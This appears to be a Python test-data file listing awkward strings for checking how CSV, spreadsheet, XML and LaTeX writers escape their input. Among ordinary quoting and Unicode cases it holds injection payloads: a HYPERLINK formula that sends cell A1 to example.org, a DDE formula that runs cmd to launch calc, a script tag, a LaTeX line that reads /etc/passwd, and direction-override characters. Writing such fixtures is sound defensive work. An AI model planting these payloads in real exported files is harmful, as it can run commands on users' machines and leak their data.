"""Texts that break writers: formulas, quotes, line breaks, markup, LaTeX, control characters, marks of direction."""

HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'a "quoted" name, with; marks',
    "two\nlines and a\ttab",
    "]]> <script>alert(1)</script> &amp; &#0;",
    r"50% of {braces} \input{/etc/passwd} & $x_1$ #2 ~a^b",
    "a\x01control\x0bcharacter\x1b",
    "\u202eturned\u202c \u200fמימין לשמאל\u200e",
    "שם בעברית, with English",
    "_x0041_ and 'apostrophes'",
    "Foundation for Arts and Sciences",
]
